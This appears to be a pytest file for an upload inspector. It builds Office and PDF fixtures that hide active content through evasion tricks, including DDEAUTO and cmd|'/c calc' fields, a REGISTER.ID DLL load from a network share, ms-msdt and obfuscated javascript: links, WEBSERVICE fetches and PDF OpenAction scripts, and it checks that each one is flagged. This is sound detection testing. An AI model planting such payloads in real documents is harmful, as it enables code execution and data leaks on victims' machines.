"""Files in which what acts is put where a check may not look: another folder, another spelling, a cut-up word."""

import io
import zipfile

import pikepdf
import pytest

from handover.vault import child
from handover.vault.inspect import inspect
from handover.vault.kinds import kind_of_name
from tests.handover.test_vault_inspect import CONTENT, MAIN, WORD, Builder, action, office, on_annotation, pdf, relation

DDE = r"<w:p><w:r><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:r></w:p>"
DOCUMENT = f'<w:document xmlns:w="{WORD}"><w:body>{{}}</w:body></w:document>'
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>{}</f></c></row>'
    "</sheetData></worksheet>"
)
FETCHES = 'WEBSERVICE("http://a.example")'
DRAWING = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'{}</svg>"
BLOCK = 1 << 20


def main_part_at(place: str) -> bytes:
    """A docx whose document lies somewhere else than Word puts it."""
    types = f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{place}"'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", f'<Types xmlns="{CONTENT}">{types} ContentType="{MAIN["docx"]}"/></Types>'
        )
        archive.writestr("_rels/.rels", relation("officeDocument", place))
        archive.writestr(place, DOCUMENT.format(DDE))
    return out.getvalue()


def by_ending(ending: str) -> bytes:
    """A docx in which every part of this ending is said to be XML."""
    body = office(more={f"word/x.{ending}": DOCUMENT.format(DDE)})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "[Content_Types].xml":
                default = f'<Default Extension="{ending}" ContentType="application/xml; a=b"/></Types>'
                part = part.replace(b"</Types>", default.encode())
            new.writestr(name, part)
    return out.getvalue()


def formula(words: str, place: str = "xl/worksheets/sheet1.xml") -> bytes:
    return office("xlsx", {place: SHEET.format(words)})


def across_blocks() -> bytes:
    """The word that fetches begins in one block of what is unpacked, and ends in the next."""
    whole = SHEET.format(FETCHES)
    filler = "".join(chr(97 + number * 7 % 26) for number in range(BLOCK - whole.index("SERVICE")))
    sheet = whole.replace("<sheetData>", f'<sheetData a="{filler[5:]}">')
    assert sheet[:BLOCK].endswith("WEB")
    return office("xlsx", {"xl/worksheets/sheet1.xml": sheet})


def related(kind: str, target: str, mode: str = "") -> bytes:
    return office(more={"word/_rels/document.xml.rels": relation(kind, target, *([mode] if mode else []))})


def pictured(kind: str, place: str, words: str) -> bytes:
    """An element of a part that names a relationship which calls itself a hyperlink."""
    parent, _, name = place.rpartition("/")
    spaces = 'xmlns:a="a" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    related = relation("hyperlink", "http://a.example/p.png", "External")
    return office(kind, {place: f'<a:x {spaces}><{words}="rId1"/></a:x>', f"{parent}/_rels/{name}.rels": related})


def linked(address: str | bytes) -> bytes:
    target = pikepdf.String(address)
    return pdf(on_annotation(Subtype=pikepdf.Name.Link, A=action(S=pikepdf.Name.URI, URI=target)))


def based(base: str) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.URI = pikepdf.Dictionary(Base=base)

    return pdf(change)


def content_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"", F=r"\\share\page")


def article_elsewhere(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action(S=pikepdf.Name.Thread, F="b.pdf", D=0)


def script_by_detours(made: pikepdf.Pdf) -> None:
    kind = made.make_indirect(pikepdf.Name.JavaScript)
    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=kind, JS=made.make_stream(b"app.alert(1)")))


HIDDEN: list[tuple[str, Builder, str]] = [
    ("in-another-folder.docx", lambda: main_part_at("doc/main.xml"), "office_external"),
    ("in-an-escaped-folder.docx", lambda: main_part_at("%77ord/document.xml"), "office_external"),
    ("called-a-picture.docx", lambda: main_part_at("word/document.jpg"), "office_embedded"),
    ("called-settings-of-a-printer.docx", lambda: main_part_at("word/printerSettings1.bin"), "office_embedded"),
    ("pictures-are-xml.docx", lambda: by_ending("png"), "office_embedded"),
    ("header-elsewhere.docx", lambda: office(more={"parts/header1.xml": DOCUMENT.format(DDE)}), "office_external"),
    (
        "deleted-field.docx",
        lambda: office(more={"word/document.xml": DOCUMENT.format(DDE.replace("instrText", "delInstrText"))}),
        "office_external",
    ),
    (
        "field-link.docx",
        lambda: office(
            more={"word/a.xml": DOCUMENT.format(DDE.replace(r"DDEAUTO c:\\cmd", 'HYPERLINK "ms-msdt:/id x"'))}
        ),
        "office_external",
    ),
    ("chunk.docx", lambda: related("AFCHUNK", "chunk.xml"), "office_embedded"),
    ("called-internal.docx", lambda: related("image", "http://a.example/p.png"), "office_external"),
    ("share-called-internal.docx", lambda: related("attachedTemplate", r"\\share\t.dotm"), "office_external"),
    ("cut-up-link.docx", lambda: related("hyperlink", "java&#9;script:a()", "External"), "office_external"),
    ("search.docx", lambda: related("hyperlink", "search-ms:query=x", "External"), "office_external"),
    ("picture-by-hyperlink.docx", lambda: pictured("docx", "word/a.xml", "a:blip r:link"), "office_external"),
    ("old-picture-by-hyperlink.docx", lambda: pictured("docx", "word/a.vml", "a:imagedata r:href"), "office_external"),
    ("picture-by-hyperlink.xlsx", lambda: pictured("xlsx", "xl/drawings/a.xml", "a:blip r:link"), "office_external"),
    (
        "template-by-hyperlink.docx",
        lambda: pictured("docx", "word/settings.xml", "a:attachedTemplate r:id"),
        "office_external",
    ),
    ("merge.docx", lambda: pictured("docx", "word/settings.xml", "a:dataSource r:id"), "office_external"),
    ("program.docx", lambda: office(more={"word/media/i.emf": b"MZ\x90" + bytes(200)}), "office_embedded"),
    (
        "drawing-that-acts.docx",
        lambda: office(more={"word/media/i.svg": DRAWING.format(" onload='a()'>")}),
        "office_embedded",
    ),
    (
        "drawing-that-fetches.docx",
        lambda: office(more={"word/media/i.SVG": DRAWING.format("><image xlink:href='http://a.example/i'/>")}),
        "office_external",
    ),
    ("elsewhere.xlsx", lambda: formula(FETCHES, "sheets/sheet1.xml"), "office_external"),
    ("across-blocks.xlsx", across_blocks, "office_external"),
    ("cdata.xlsx", lambda: formula(FETCHES.replace("SERVICE", "<![CDATA[SERVICE]]>")), "office_external"),
    ("comment.xlsx", lambda: formula(FETCHES.replace("SERVICE", "<!-- -->SERVICE")), "office_external"),
    ("instruction.xlsx", lambda: formula(FETCHES.replace("SERVICE", "<?a b?>SERVICE")), "office_external"),
    ("element.xlsx", lambda: formula(f"<b/>{FETCHES}"), "office_external"),
    ("dde.xlsx", lambda: formula("cmd|'/c calc'!A0"), "office_external"),
    ("library.xlsx", lambda: formula(r'REGISTER.ID("\\share\a.dll","a")'), "office_external"),
    ("utf-16.pdf", lambda: linked(b"\xfe\xff" + "javascript:a()".encode("utf-16-be")), "pdf_script"),
    ("utf-8.pdf", lambda: linked(b"\xef\xbb\xbffile://share/a"), "pdf_elsewhere"),
    ("tab.pdf", lambda: linked("java\tscript:a()"), "pdf_script"),
    ("control.pdf", lambda: linked("\x01javascript:a()"), "pdf_script"),
    ("search.pdf", lambda: linked("search-ms:query=x"), "pdf_script"),
    ("slashes.pdf", lambda: linked("//share/a"), "pdf_elsewhere"),
    ("base.pdf", lambda: based("file://share/"), "pdf_elsewhere"),
    ("base-script.pdf", lambda: based("javascript:"), "pdf_script"),
    ("content-elsewhere.pdf", lambda: pdf(content_elsewhere), "pdf_elsewhere"),
    ("article-elsewhere.pdf", lambda: pdf(article_elsewhere), "pdf_elsewhere"),
    ("detours.pdf", lambda: pdf(script_by_detours), "pdf_script"),
]

FINE: list[tuple[str, Builder]] = [
    ("share.docx", lambda: related("hyperlink", "file:///\\\\server\\部署\\一覧.xlsx", "External")),
    ("mail.docx", lambda: related("hyperlink", "mailto:a@example.jp?subject=x", "External")),
    ("place.xlsx", lambda: office("xlsx", {"xl/_rels/a.rels": relation("hyperlink", "#Sheet1!A1")})),
    (
        "icon.docx",
        lambda: office(more={"word/media/i.svg": DRAWING.format("><use xlink:href='#a'/><a href='http://a.jp'/>")}),
    ),
    ("bars.xlsx", lambda: formula("IF(A1=\"a|b!\",'売上|税'!A1,T[[#This Row],[a|b]])")),
    ("exclaims.xlsx", lambda: office("xlsx", {"xl/sharedStrings.xml": "<sst><si><t>a|b! WEBSERVICE(</t></si></sst>"})),
    ("plain.pdf", lambda: linked("https://example.jp/javascript:a?file=1")),
    ("japanese.pdf", lambda: linked("https://example.jp/引継ぎ".encode())),
    ("mail.pdf", lambda: linked("mailto:a@example.jp")),
    ("no-scheme.pdf", lambda: linked("www.example.jp:8080/data:x")),
    ("base.pdf", lambda: based("https://example.jp/")),
]


def found(name: str, body: bytes) -> list[str]:
    kind = kind_of_name(name)
    assert kind
    return child.checker(kind)(kind.value, body)


@pytest.mark.parametrize(("name", "build", "code"), HIDDEN, ids=[name for name, *_ in HIDDEN])
def test_what_is_hidden_is_found(name: str, build: Builder, code: str) -> None:
    assert code in found(name, build())


@pytest.mark.parametrize(("name", "build"), FINE, ids=[name for name, _ in FINE])
def test_what_only_looks_like_it_is_taken(name: str, build: Builder) -> None:
    assert found(name, build()) == []


@pytest.mark.soak
@pytest.mark.parametrize(("name", "build", "code"), HIDDEN, ids=[name for name, *_ in HIDDEN])
def test_what_is_hidden_is_refused_by_the_process_with_its_limits(
    name: str, build: Builder, code: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("upload") / "upload"
    path.write_bytes(build())
    assert code in inspect(path, name).codes
